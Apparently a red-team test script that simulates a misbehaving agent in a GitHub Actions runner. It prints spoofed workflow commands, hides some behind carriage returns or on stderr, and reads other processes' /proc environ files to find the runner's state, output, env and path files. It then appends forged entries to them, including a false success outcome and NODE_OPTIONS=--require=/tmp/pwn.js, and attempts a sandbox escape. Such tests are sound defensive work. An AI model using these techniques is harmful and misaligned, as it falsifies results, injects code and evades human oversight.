// Family 5, workflow commands: prints every kind of workflow command (some behind leading
// spaces, after a carriage return, on stderr, without a final newline), appends recorded=true
// to the runner's GITHUB_STATE (and to GITHUB_OUTPUT, GITHUB_ENV, GITHUB_PATH) wherever it can
// find them, commits some work, then fails (exit 1).
import { appendFileSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { attempt, begin, config, honestWork, list, loot, nonce, tryEscape } from "./lib.mjs";

await begin("commands");

const lines = [
  `::error::${nonce} an agent error`,
  `::add-mask::x ${nonce}`,
  `::set-output name=outcome,n=${nonce}::success`,
  `::save-state name=recorded,n=${nonce}::true`,
  `::set-env name=NODE_OPTIONS,n=${nonce}::--require=/tmp/pwn.js`,
  `::add-path::/tmp/${nonce}`,
  `::stop-commands::x${nonce}`,
  `::x::${nonce}`,
  `::warning file=README.md,line=1,title=${nonce}::an agent warning`,
  `::notice::${nonce}`,
  `::debug::${nonce}`,
  `::group::${nonce}`,
  `::endgroup::${nonce}`,
  `   ::error::${nonce} behind leading spaces`,
  `\t::error::${nonce} behind a tab`,
  `${nonce} an honest line\r::error::${nonce} after a carriage return`,
  `${nonce} another line\r\r::set-output name=outcome,n=${nonce}::success`,
];
for (const line of lines) console.log(line);
process.stderr.write(`::error::${nonce} on stderr\n`);

// The runner's file command files: from its environment (/proc), else by guessing.
const names = ["GITHUB_STATE", "GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH"];
const files = {};
const environOf = (pid) => attempt(() => readFileSync(`/proc/${pid}/environ`, "utf8"));
const pids = [process.ppid, ...list("/proc").filter((pid) => /^\d+$/.test(pid))];
for (const pid of pids) {
  for (const entry of String(environOf(pid)).split("\0")) {
    const [name, ...value] = entry.split("=");
    if (names.includes(name)) files[value.join("=")] = name;
  }
}
for (const root of [
  process.env.RUNNER_TEMP,
  config.escape ? config.targets.runnerTemp : null,
  "/tmp",
]) {
  if (!root) continue;
  const guesses = list(root).map((dir) => join(root, dir, "runner-temp", "_runner_file_commands"));
  for (const dir of [join(root, "_runner_file_commands"), ...guesses]) {
    for (const file of list(dir)) {
      if (file.startsWith("save_state_")) files[join(dir, file)] ??= "GITHUB_STATE";
      if (file.startsWith("set_output_")) files[join(dir, file)] ??= "GITHUB_OUTPUT";
      if (file.startsWith("set_env_")) files[join(dir, file)] ??= "GITHUB_ENV";
      if (file.startsWith("add_path_")) files[join(dir, file)] ??= "GITHUB_PATH";
    }
  }
}
const payloads = {
  GITHUB_STATE: "recorded=true\n",
  GITHUB_OUTPUT: "outcome=success\n",
  GITHUB_ENV: "NODE_OPTIONS=--require=/tmp/pwn.js\n",
  GITHUB_PATH: `/tmp/${nonce}\n`,
};
const written = {};
for (const [file, name] of Object.entries(files))
  written[file] = `${name}: ${attempt(() => appendFileSync(file, payloads[name]))}`;
await loot("commands.json", { files: written });
await tryEscape();
honestWork("commands");
process.stdout.write(`::error::${nonce} without a final newline`);
process.exitCode = 1;
